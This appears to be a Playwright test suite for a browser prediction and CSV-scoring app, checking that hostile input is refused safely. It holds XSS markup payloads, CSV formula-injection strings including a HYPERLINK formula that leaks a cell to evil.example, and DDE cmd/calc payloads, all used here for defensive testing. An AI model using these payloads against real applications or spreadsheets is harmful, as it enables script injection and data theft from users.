// Hostile input and silent faults (issue 14): the inputs of an adversarial run against the built
// site, with variants, one page per group of cases. Each page counts the main thread's long tasks
// (PerformanceObserver 'longtask') and carries a trap that any injected script would spring.
import { readFileSync } from 'node:fs';
import { expect, type Locator, type Page, test } from '@playwright/test';
import Papa from 'papaparse';
import { builtinManifest, builtinModelBytes } from '../fixtures/builtin-names/builtin-names';
import {
  batchElement,
  fieldMessage,
  numberField,
  radio,
  readRepoFile,
  shownLabel,
  uploadCsv,
  waitForPrediction,
} from './helpers';
import { HEADER, ROWS } from '../drug-sample-rows';

// Time bounds, as the longest main-thread task (PerformanceObserver 'longtask'). They catch the
// freezes the adversarial run found by a wide margin (a 100,000-digit value: 27 s, 40,000 digits:
// 3.2 s; a 30 MB cell in the preview: 7–10 s) and leave room for a loaded 2-core machine, where
// a task of the browser's own (laying out a 100,000-character input, a garbage collection) takes
// 200–250 ms. The 50 ms target for batches is measured by `npm run bench` (bench/batch.mjs).
const FORM_TASK_MS = 1000;
const PREVIEW_TASK_MS = 250;

/** Markup that runs script if it ever reaches the DOM as HTML, or a URL as a link. */
const INJECTIONS = [
  '<img src=x onerror=window.__pwned=1>',
  '"><svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
];

const DRUG_A = { Age: '47', Na_to_K: '14' }; // with F, HIGH, HIGH: Drug A

type Watched = Window & { __longTasks: { start: number; duration: number }[]; __pwned?: number };

/** Records long tasks in every frame of the page from its first script on. */
async function watchMainThread(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as Watched;
    w.__longTasks = [];
    new PerformanceObserver((list) => {
      for (const e of list.getEntries())
        w.__longTasks.push({ start: e.startTime, duration: e.duration });
    }).observe({ type: 'longtask', buffered: true });
  });
}

/** The page's clock now, to measure long tasks from. */
function now(page: Page): Promise<number> {
  return page.evaluate(() => performance.now());
}

/**
 * When the page took the newest file: tasks before it are the test harness's (Playwright builds
 * the File inside the page, ≈ 200 ms for a 400 KB file under load), not the app's.
 */
function fileChosenAt(page: Page): Promise<number> {
  return page.evaluate(
    () => performance.getEntriesByName('formcast-batch:file-chosen').at(-1)?.startTime ?? 0,
  );
}

/** The longest main-thread task that started at or after `since` (0 when there was none). */
async function longestTaskSince(page: Page, since: number): Promise<number> {
  const tasks = await page.evaluate(() => (window as unknown as Watched).__longTasks);
  return Math.max(0, ...tasks.filter((t) => t.start >= since).map((t) => t.duration));
}

/** No injected script ran in the page or any of its frames. */
async function expectNoScriptRan(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    expect(await frame.evaluate(() => (window as unknown as Watched).__pwned)).toBeUndefined();
  }
}

function errorBox(page: Page): Locator {
  return page.locator('formcast-predictor [role="alert"][data-code]');
}

test.describe('hostile values are refused quickly, with a readable message', () => {
  test('the form: 100,000 digits, float32 overflow, markup', async ({ page }) => {
    await watchMainThread(page);
    await page.goto('./?Age=60&Sex=F&BP=HIGH&Cholesterol=HIGH&Na_to_K=20');
    await waitForPrediction(page);
    const since = await now(page);

    await numberField(page, 'Age').fill(`${'1'.repeat(100_000)}x`);
    await expect(fieldMessage(page, 'Age')).toHaveText(
      `Error: "${'1'.repeat(40)}…" (100,001 characters) is not a number`,
    );
    await expect(shownLabel(page)).toHaveCount(0); // no stale answer
    // The message stays inside the form's column.
    const field = (await page
      .locator('formcast-field')
      .filter({ has: page.locator('input[name="Age"]') })
      .boundingBox())!;
    const message = (await fieldMessage(page, 'Age').boundingBox())!;
    expect(message.x + message.width).toBeLessThanOrEqual(field.x + field.width + 1);
    // Later clicks do not freeze the page again while the value is there.
    await radio(page, 'Sex', 'Male').check();
    await radio(page, 'Sex', 'Female').check();

    await numberField(page, 'Na_to_K').fill(`${'9'.repeat(40_000)}.5.`);
    await expect(fieldMessage(page, 'Na_to_K')).toHaveText(
      `Error: "${'9'.repeat(40)}…" (40,003 characters) is not a number`,
    );
    await numberField(page, 'Age').fill('1e39');
    await expect(fieldMessage(page, 'Age')).toHaveText(
      'Error: "1e39" is outside the range of numbers the model can take (±3.4e38)',
    );
    await numberField(page, 'Na_to_K').fill('-3.5e38');
    await expect(fieldMessage(page, 'Na_to_K')).toContainText('outside the range of numbers');
    for (const markup of INJECTIONS) {
      await numberField(page, 'Age').fill(markup);
      await expect(fieldMessage(page, 'Age')).toHaveText(`Error: "${markup}" is not a number`);
    }

    await numberField(page, 'Age').fill(DRUG_A.Age);
    await numberField(page, 'Na_to_K').fill(DRUG_A.Na_to_K);
    await expect(shownLabel(page)).toHaveAttribute('data-label', 'drugA');
    expect(await longestTaskSince(page, since)).toBeLessThan(FORM_TASK_MS);
    await expectNoScriptRan(page);
  });

  test('a link: long and repeated parameters, markup, overflow', async ({ page }) => {
    await watchMainThread(page);
    // 10,000 digits: a URL of 100,000 characters is refused by servers (vite preview: 431).
    const long = `${'1'.repeat(10_000)}x`;
    const query = new URLSearchParams([
      ['model', 'drug'],
      ['model', 'hr'],
      ['Age', long],
      ['Age', '60'],
      ['Sex', 'F'],
      ['BP', INJECTIONS[0]!],
      ['Cholesterol', 'HIGH'],
      ['Na_to_K', '1e39'],
      [INJECTIONS[1]!, '1'],
    ]);
    await page.goto(`./?${query}`);
    const problems = page.getByTestId('link-problems');
    await expect(problems.locator('li')).toHaveText([
      'Link parameter "model" is given 2 times ("drug", "hr"): the first was used.',
      'Link parameter "Age" is given 2 times ("1111111111111111111111111111111111111111…" (10,001 characters), "60"): the first was used.',
      `Unknown link parameter "${INJECTIONS[1]}" was not used.`,
      `Link parameter Age: "${'1'.repeat(40)}…" (10,001 characters) is not a number.`,
      `Link parameter BP: "${INJECTIONS[0]}" is not one of HIGH, LOW, NORMAL.`,
      'Link parameter Na_to_K: "1e39" is outside the range of numbers the model can take (±3.4e38).',
    ]);
    // The first `model` wins, as the first Age does: the drug model's form.
    await expect(numberField(page, 'Na_to_K')).toBeVisible();
    await expect(numberField(page, 'Age')).toHaveValue(long);
    // Loading the page runs the app's code; the hostile values add nothing long to it.
    expect(await longestTaskSince(page, 0)).toBeLessThan(1000);
    await expectNoScriptRan(page);
  });

  test("the iframe's formcast-set-values", async ({ page }) => {
    await watchMainThread(page);
    await page.route('**/hostile-host.html', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<!doctype html><html lang="en"><title>Host</title><body></body></html>',
      }),
    );
    await page.goto('./hostile-host.html');
    await page.evaluate(() => {
      const frame = Object.assign(document.createElement('iframe'), {
        id: 'formcast',
        title: 'Predictor',
        src: `embed.html?model=drug&parent=${encodeURIComponent(location.origin)}`,
      });
      frame.style.cssText = 'width: 100%; height: 900px; border: 0';
      document.body.append(frame);
    });
    const frame = page.frameLocator('#formcast');
    await expect(frame.locator('formcast-result [part="label"]')).toBeVisible();
    const since = await now(page);
    await page.evaluate(
      ([long, markup]) => {
        const frame = document.getElementById('formcast') as HTMLIFrameElement;
        frame.contentWindow!.postMessage(
          {
            source: 'formcast-host',
            type: 'formcast-set-values',
            // An object for Sex: not text, so it is left out (with a console warning).
            values: { Age: long, BP: markup, Na_to_K: 1e39, Sex: { toString: 'F' } },
          },
          location.origin,
        );
      },
      [`${'7'.repeat(100_000)}x`, INJECTIONS[0]!],
    );
    const message = (name: string) =>
      frame
        .locator('formcast-field')
        .filter({ has: frame.locator(`[name="${name}"]`) })
        .locator('.message');
    await expect(message('Age')).toHaveText(
      `Error: "${'7'.repeat(40)}…" (100,001 characters) is not a number`,
    );
    await expect(message('Na_to_K')).toHaveText(
      'Error: "1e+39" is outside the range of numbers the model can take (±3.4e38)',
    );
    await expect(message('BP')).toHaveText(
      `Error: "${INJECTIONS[0]}" is not one of HIGH, LOW, NORMAL`,
    );
    await expect(frame.getByRole('radio', { name: 'Female' })).toBeChecked();
    await expect(frame.locator('formcast-result [part="label"]')).toHaveCount(0);
    expect(await longestTaskSince(page, since)).toBeLessThan(FORM_TASK_MS);
    await expectNoScriptRan(page);
  });
});

test('embed.html names a ?parent= that is not an origin', async ({ page }) => {
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  await page.goto(
    `./embed.html?model=drug&parent=${encodeURIComponent('https://host.example/page')}`,
  );
  await expect(page.locator('formcast-result [part="label"]')).toBeVisible();
  expect(warnings).toContain(
    'formcast: embed.html\'s ?parent="https://host.example/page" is not an origin: give the embedding page\'s scheme, host and port only, e.g. https://example.com (no path, no trailing text). The height and events are not posted until it is.',
  );
});

// ── CSV files ─────────────────────────────────────────────────────────────────────────────────

async function openBatch(page: Page): Promise<void> {
  await watchMainThread(page);
  await page.goto('./');
  await waitForPrediction(page);
  await expect(page.getByRole('heading', { name: 'Score a CSV file' })).toBeVisible();
}

/** Scores `content` and returns the scored file's rows (header first). */
async function scoreFile(page: Page, name: string, content: Buffer | string): Promise<string[][]> {
  await uploadCsv(page, name, content);
  const link = batchElement(page).getByRole('link', { name: 'Download scored CSV' });
  await expect(batchElement(page).getByRole('heading', { name: `Scored “${name}”` })).toBeVisible();
  const [file] = await Promise.all([page.waitForEvent('download'), link.click()]);
  const text = readFileSync((await file.path())!, 'utf8');
  expect(text.endsWith('\r\n')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(0, -2), { delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

test.describe('CSV files: every row its own, safe to open, scored again', () => {
  test('line endings, bad quotes and a 100,000-digit cell: one output row per input row', async ({
    page,
  }) => {
    await openBatch(page);
    const since = await now(page);
    // The issue's file: rows ending in LF, CR and CRLF (4 rows out of 6 before).
    const ends = ['\n', '\r', '\r\n', '\n', '\r', '\r\n'];
    const mixed = `${HEADER}\n${ROWS.map((r, i) => r + ends[i]).join('')}`;
    const out = await scoreFile(page, 'mixed.csv', mixed);
    expect(out.map((r) => r[0])).toEqual(['id', '1', '2', '3', '4', '5', '6']);
    expect(out.slice(1).every((r) => r.at(-1) === '' && r[6] !== '')).toBe(true);

    // LF then CR rows; a row with text after a quote; a 100,000-digit Age; markup.
    const hostile = [
      `${HEADER}\n${ROWS[0]}\n`,
      `7,"x"y,F,HIGH,HIGH,10\n`,
      `${ROWS[1]}\r`,
      `8,${'1'.repeat(100_000)}x,F,HIGH,HIGH,10\r`,
      `9,47,F,"${INJECTIONS[0]!.replaceAll('"', '""')}",HIGH,14\r`,
      `${ROWS[2]}\r`,
    ].join('');
    const rows = await scoreFile(page, 'hostile.csv', hostile);
    expect(rows.map((r) => r[0])).toEqual(['id', '1', '7', '2', '8', '9', '3']);
    const error = (id: string) => rows.find((r) => r[0] === id)!.at(-1);
    expect(error('7')).toBe('a quoted field has text after its closing quote');
    expect(error('2')).toBe('');
    expect(error('8')).toBe(`Age: "${'1'.repeat(40)}…" (100,001 characters) is not a number`);
    expect(error('9')).toBe(`BP: "${INJECTIONS[0]}" is not one of HIGH, LOW, NORMAL`);
    // The 100,000 digits are kept in the file as they were.
    expect(rows.find((r) => r[0] === '8')![1]).toBe(`${'1'.repeat(100_000)}x`);
    await expect(batchElement(page).getByTestId('batch-errors')).toContainText(
      '(100,001 characters)',
    );
    expect(await longestTaskSince(page, since)).toBeLessThan(FORM_TASK_MS);
    await expectNoScriptRan(page);
  });

  test('formula cells are escaped, a scored file scores again, Latin-1 names its byte', async ({
    page,
  }) => {
    await openBatch(page);
    // First a model that cannot be downloaded for the batch's worker: Try again scores the file.
    await page.route('**/models/drug/model*.onnx', (route) => route.fulfill({ status: 404 }));
    await uploadCsv(page, 'first.csv', `${HEADER}\n${ROWS[0]}\n`);
    const failure = batchElement(page).locator('[part="error"]');
    await expect(failure).toHaveAttribute('data-code', 'MODEL_FETCH_FAILED');
    await page.unroute('**/models/drug/model*.onnx');
    await failure.getByRole('button', { name: 'Try again' }).click();
    await expect(batchElement(page).getByTestId('batch-summary')).toContainText('1 row: 1 scored');

    const formulas = [
      '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
    ];
    const csv = `${HEADER},note\n${formulas
      .map((f, i) => `${i + 1},47,F,HIGH,HIGH,14,"${f.replaceAll('"', '""')}"`)
      .join('\n')}\n6,-5,F,HIGH,HIGH,-1,plain\n`;
    const once = await scoreFile(page, 'formulas.csv', csv);
    expect(once.slice(1, 6).map((r) => r[6])).toEqual(formulas.map((f) => `'${f}`));
    expect(once[6]!.slice(1, 2)).toEqual(['-5']); // a signed number is data
    // The preview shows the cells as they are: it is not a spreadsheet.
    await expect(
      batchElement(page).getByTestId('batch-preview').locator('tbody tr').first(),
    ).toContainText(formulas[0]!);

    // The scored file, scored again: its prediction columns are replaced, not repeated.
    const text = `${once.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(',')).join('\r\n')}\r\n`;
    const twice = await scoreFile(page, 'formulas-scored.csv', text);
    expect(twice[0]).toEqual(once[0]);
    expect(twice.slice(1).map((r) => r.slice(7))).toEqual(once.slice(1).map((r) => r.slice(7)));
    await expect(batchElement(page).getByTestId('batch-replaced')).toContainText(
      'The file already had prediction columns',
    );

    const before = Buffer.from(`${HEADER}\n1,23,F,HIGH,HIGH,25.355\n2,Zo`);
    const latin1 = Buffer.concat([before, Buffer.from([0xeb]), Buffer.from(',F,HIGH,HIGH,10\n')]);
    await uploadCsv(page, 'latin1.csv', latin1);
    await expect(batchElement(page).locator('[part="error"]')).toContainText(
      `"latin1.csv" is not UTF-8 text: byte ${before.length} (0xEB) on line 3, after "2,Zo", is not valid UTF-8.`,
    );
  });

  test('a 2 MB cell and 10,000 columns: the result does not block the page', async ({ page }) => {
    // The issue's file had a 30 MB cell; 2 MB is as far past the preview's 200 characters, and
    // keeps the test quick (the test harness builds the file inside the page).
    const CELL_CHARS = 2_000_000;
    await openBatch(page);
    const huge = `${HEADER},note\n1,47,F,HIGH,HIGH,14,${'n'.repeat(CELL_CHARS)}\n2,23,F,HIGH,HIGH,25,short\n`;
    await uploadCsv(page, 'huge-cell.csv', huge);
    await expect(batchElement(page).getByTestId('batch-summary')).toContainText('2 rows: 2 scored');
    const cell = batchElement(page)
      .getByTestId('batch-preview')
      .locator('tbody tr')
      .first()
      .locator('td')
      .nth(6);
    expect((await cell.textContent())!.length).toBeLessThanOrEqual(201);
    expect(await longestTaskSince(page, await fileChosenAt(page))).toBeLessThan(PREVIEW_TASK_MS);

    const extra = Array.from({ length: 10_000 }, (_, i) => `c${i}`);
    const wide = `${HEADER},${extra.join(',')}\n${ROWS.map((r) => `${r},${extra.join(',')}`).join('\n')}\n`;
    await uploadCsv(page, 'wide.csv', wide);
    await expect(batchElement(page).getByTestId('batch-summary')).toContainText('6 rows: 6 scored');
    await expect(batchElement(page).getByTestId('batch-preview-cut')).toHaveText(
      'The preview shows the first 20 of 10,006 input columns; the scored file has them all.',
    );
    expect(await longestTaskSince(page, await fileChosenAt(page))).toBeLessThan(PREVIEW_TASK_MS);
  });
});

// ── Manifests and the model index ─────────────────────────────────────────────────────────────

test.describe('manifests and the model index', () => {
  test('class and category names that are built-in keys are plain data', async ({ page }) => {
    await page.route('**/models/drug/manifest.json', (route) =>
      route.fulfill({ contentType: 'application/json', body: JSON.stringify(builtinManifest()) }),
    );
    await page.route('**/models/drug/model.numeric.onnx', (route) =>
      route.fulfill({ body: builtinModelBytes() }),
    );
    await page.goto('./?Age=47&Sex=F&BP=__proto__&Cholesterol=HIGH&Na_to_K=14');
    // HIGH is called __proto__ here (label "High"): Drug A's row, a class called "constructor".
    await expect(shownLabel(page)).toHaveAttribute('data-label', 'constructor');
    const result = page.locator('formcast-result');
    await expect(result.locator('[part="label"]')).toHaveText('constructor');
    await expect(result.locator('li[data-class="constructor"] .value')).toHaveText('100.0 %');
    await expect(result.locator('li[data-class="__proto__"]')).toContainText('Drug Y');
    await expect(result.locator('li')).toHaveCount(5);
    await expect(result).not.toContainText('NaN');
    await expect(result).not.toContainText('function');
    await expect(radio(page, 'Blood pressure', 'High')).toBeChecked();
    await numberField(page, 'Na_to_K').fill('30'); // Drug Y's side of the tree: "__proto__"
    await expect(shownLabel(page)).toHaveAttribute('data-label', '__proto__');
    await expect(result.locator('[part="label"]')).toHaveText('Drug Y');
  });

  test('a format Intl refuses is MANIFEST_INVALID with its place; Try again recovers', async ({
    page,
  }) => {
    const house = JSON.parse(readRepoFile('public/models/house/manifest.json').toString('utf8'));
    let broken = true;
    await page.route('**/models/house/manifest.json', (route) =>
      broken
        ? route.fulfill({
            contentType: 'application/json',
            body: JSON.stringify({
              ...house,
              outputs: {
                ...house.outputs,
                format: {
                  ...house.outputs.format,
                  minimumFractionDigits: 4,
                  maximumFractionDigits: 2,
                },
              },
            }),
          })
        : route.continue(),
    );
    await page.goto('./?model=house');
    await expect(errorBox(page)).toHaveAttribute('data-code', 'MANIFEST_INVALID');
    await expect(errorBox(page)).toContainText(
      '/outputs/format: minimumFractionDigits 4 is greater than maximumFractionDigits 2',
    );
    broken = false;
    await errorBox(page).getByRole('button', { name: 'Try again' }).click();
    await expect(page.locator('formcast-result [part="value"]')).toBeVisible();
  });

  test('a model index that is null is a coded error with Try again', async ({ page }) => {
    let body = 'null';
    await page.route('**/models/index.json', (route) =>
      body === 'null' ? route.fulfill({ contentType: 'application/json', body }) : route.continue(),
    );
    await page.goto('./');
    const alert = page.locator('formcast-app').locator('[role="alert"][data-code]');
    await expect(alert).toHaveAttribute('data-code', 'MANIFEST_INVALID');
    await expect(alert).toContainText('is malformed (it holds null)');
    body = 'real';
    await alert.getByRole('button', { name: 'Try again' }).click();
    await waitForPrediction(page);
  });
});

// ── Worker faults ─────────────────────────────────────────────────────────────────────────────

test.describe('worker faults are detected, not waited for', () => {
  test('a worker script that answers 404: the script is named, and Try again', async ({ page }) => {
    // A deploy that removed the old hashed assets, while an old page is open (or cached).
    let missing = true;
    await page.route('**/assets/predictor.worker-*.js', (route) =>
      missing ? route.fulfill({ status: 404, body: 'Not Found' }) : route.continue(),
    );
    const started = Date.now();
    await page.goto('./');
    await expect(errorBox(page)).toHaveAttribute('data-code', 'RUNTIME_LOAD_FAILED', {
      timeout: 5000,
    });
    expect(Date.now() - started).toBeLessThan(5000);
    await expect(errorBox(page)).toContainText(
      "The prediction engine's script could not be loaded",
    );
    await expect(errorBox(page)).toContainText('predictor.worker-');
    await expect(errorBox(page)).not.toContainText('stopped');
    await errorBox(page).getByRole('button', { name: 'Try again' }).click(); // still missing
    await expect(errorBox(page)).toHaveAttribute('data-code', 'RUNTIME_LOAD_FAILED');
    missing = false;
    await errorBox(page).getByRole('button', { name: 'Try again' }).click();
    await waitForPrediction(page);
  });

  test('a worker that ends without an event: the next answer comes from a new one', async ({
    page,
  }) => {
    // Drug Y at a ratio of 20; the same patient at 14 is Drug A.
    await page.goto('./?Age=47&Sex=F&BP=HIGH&Cholesterol=HIGH&Na_to_K=20');
    await expect(shownLabel(page)).toHaveAttribute('data-label', 'DrugY');
    const [worker] = page.workers();
    await worker!.evaluate(() => setTimeout(() => self.close()));
    await expect.poll(() => page.workers().length).toBe(0);
    // Every state the result is drawn in from the edit on: the label shown, and whether it is
    // marked as waiting for the new values.
    await page.evaluate(() => {
      const result = document
        .querySelector('formcast-app')!
        .shadowRoot!.querySelector('formcast-predictor')!
        .shadowRoot!.querySelector('formcast-result')!;
      const seen: string[] = [];
      (window as unknown as { seen: string[] }).seen = seen;
      const record = () => {
        const label = result.shadowRoot!.querySelector('[part="label"]');
        seen.push(
          `${label?.getAttribute('data-label') ?? '-'}${result.hasAttribute('pending') ? ' pending' : ''}`,
        );
      };
      new MutationObserver(record).observe(result.shadowRoot!, {
        subtree: true,
        childList: true,
        attributes: true,
      });
      new MutationObserver(record).observe(result, { attributes: true });
    });
    await numberField(page, 'Na_to_K').fill(DRUG_A.Na_to_K);
    await expect(shownLabel(page)).toHaveAttribute('data-label', 'drugA');
    await expect(page.locator('formcast-result')).not.toHaveAttribute('pending');
    // Drug Y was never on screen for the new values unless marked as waiting.
    const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    expect(seen).toContain('DrugY pending');
    expect(seen.filter((s) => s === 'DrugY')).toEqual([]);
    expect(page.workers()).toHaveLength(1);
  });

  test('a worker that stops answering: the old answer is marked, then WORKER_CRASHED', async ({
    page,
  }) => {
    await page.goto('./?Age=60&Sex=F&BP=LOW&Cholesterol=HIGH&Na_to_K=20');
    await expect(shownLabel(page)).toHaveAttribute('data-label', 'DrugY');
    const [worker] = page.workers();
    await worker!.evaluate(() => {
      setTimeout(() => {
        for (;;);
      });
    });
    await numberField(page, 'Na_to_K').fill('14');
    const result = page.locator('formcast-result');
    await expect(result).toHaveAttribute('pending');
    await expect(result.getByTestId('updating')).toBeVisible();
    await expect(result.locator('.panel')).toHaveAttribute('aria-busy', 'true');
    // Pings go unanswered for 5 s: the worker is stopped and the error replaces the old answer.
    await expect(errorBox(page)).toHaveAttribute('data-code', 'WORKER_CRASHED', { timeout: 9000 });
    await expect(errorBox(page)).toContainText('stopped answering');
    await expect(shownLabel(page)).toHaveCount(0);
    await errorBox(page).getByRole('button', { name: 'Try again' }).click();
    await expect(shownLabel(page)).toHaveAttribute('data-label', 'drugC'); // 60, F, LOW, HIGH, 14
  });
});

// ── Storage ───────────────────────────────────────────────────────────────────────────────────

const SWITCH = 'Keep a history of my predictions on this device';

function historyProblem(page: Page): Locator {
  return page.locator('formcast-history .problem[role="alert"]');
}

function historyRows(page: Page): Locator {
  return page.locator('formcast-history tbody tr');
}

test.describe('the history when storage fails, and across tabs', () => {
  test('no IndexedDB at all: a sentence, not a TypeError', async ({ page }) => {
    await page.addInitScript(() =>
      Object.defineProperty(window, 'indexedDB', { value: undefined, configurable: true }),
    );
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    await page.goto(`./?Age=47&Sex=F&BP=HIGH&Cholesterol=HIGH&Na_to_K=14`);
    await waitForPrediction(page);
    await page.getByRole('switch', { name: SWITCH }).check();
    await expect(historyProblem(page)).toHaveText(
      'The history cannot be kept here: this browser offers no IndexedDB (some private modes and embedded browsers turn it off).',
    );
    const stored = page.locator('formcast-stored-data');
    await stored.getByText('Data stored on this device').click();
    await expect(stored.getByTestId('stored-usage')).toBeVisible();
    await stored.getByRole('button', { name: 'Clear stored data' }).click();
    await expect(stored.getByRole('status')).toContainText('Cleared.');
    expect(errors).toEqual([]);
  });

  test('a full quota: the reason, one retry, and the message goes once a save works', async ({
    page,
  }) => {
    // The next `failures` adds throw what Chromium throws when the site's quota is full.
    await page.addInitScript(() => {
      const w = window as unknown as { failures: number };
      w.failures = 0;
      const add = IDBObjectStore.prototype.add;
      IDBObjectStore.prototype.add = function (...args: Parameters<typeof add>) {
        if (w.failures > 0) {
          w.failures--;
          throw new DOMException('', 'QuotaExceededError');
        }
        return add.apply(this, args);
      };
    });
    await page.goto(`./?Age=47&Sex=F&BP=HIGH&Cholesterol=HIGH&Na_to_K=14`);
    await waitForPrediction(page);
    await page.getByRole('switch', { name: SWITCH }).check();
    const failures = (n: number) =>
      page.evaluate((n) => ((window as unknown as { failures: number }).failures = n), n);

    await failures(1); // one failure: the retry keeps the prediction, nothing is shown
    await numberField(page, 'Age').fill('61');
    await expect(historyRows(page)).toHaveCount(1);
    await expect(historyProblem(page)).toHaveCount(0);

    await failures(2); // twice: the reason is shown
    await numberField(page, 'Age').fill('62');
    await expect(historyProblem(page)).toHaveText(
      "The history could not be saved: the browser's storage for this site is full (QuotaExceededError). Delete kept predictions, or free space in the browser's site data.",
    );
    await expect(historyRows(page)).toHaveCount(1);

    await numberField(page, 'Age').fill('63'); // storage works again
    await expect(historyRows(page)).toHaveCount(2);
    await expect(historyProblem(page)).toHaveCount(0);
  });

  test('two tabs see each other keep and delete entries', async ({ context }) => {
    const first = await context.newPage();
    await first.goto(`./?Age=47&Sex=F&BP=HIGH&Cholesterol=HIGH&Na_to_K=14`);
    await waitForPrediction(first);
    await first.getByRole('switch', { name: SWITCH }).check();
    await numberField(first, 'Age').fill('61');
    await expect(historyRows(first)).toHaveCount(1);

    const second = await context.newPage();
    await second.goto(`./?Age=50&Sex=M&BP=LOW&Cholesterol=HIGH&Na_to_K=14`);
    await expect(historyRows(second)).toHaveCount(1);
    // A prediction kept in the first tab appears in the second without a reload...
    await numberField(first, 'Age').fill('62');
    await expect(historyRows(second)).toHaveCount(2);
    // ... and "Delete all" there empties this one.
    await first.locator('formcast-history').getByRole('button', { name: 'Delete all' }).click();
    await first
      .locator('formcast-history')
      .getByRole('button', { name: /^Delete all 2 kept/ })
      .click();
    await expect(historyRows(first)).toHaveCount(0);
    await expect(historyRows(second)).toHaveCount(0);
    await expect(second.getByTestId('history-empty')).toBeVisible();
  });
});
